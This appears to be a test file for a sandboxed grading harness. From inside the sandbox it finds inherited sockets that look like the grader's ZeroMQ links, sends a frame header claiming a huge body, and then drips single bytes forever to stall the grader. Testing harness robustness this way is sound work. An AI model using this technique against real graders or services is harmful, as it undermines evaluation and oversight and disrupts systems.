"""Speaks to the grader past ZeroMQ: frames without end, of no kind, one byte at a time."""

EXPECT = {"problem": "longer|answer|ended", "seconds": 30}

import only_in_the_sandbox

import os
import socket
import stat
import struct
import threading
import time


def lines():
    for number in range(3, 250):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                line = socket.socket(fileno=os.dup(number))
                if str(line.getsockname()).endswith(("k-1", "k-2")) and line.type == 1:
                    line.getpeername()
                    yield line
        except OSError:
            pass


def drip(line):
    try:
        line.setblocking(True)
        line.sendall(struct.pack("!BQ", 3, 100 << 20))
        while True:
            line.sendall(b"x")
            time.sleep(0.001)
    except OSError:
        pass


found = list(lines())
print(len(found) >= 2)
for line in found:
    threading.Thread(target=drip, args=[line], daemon=True).start()
time.sleep(60)
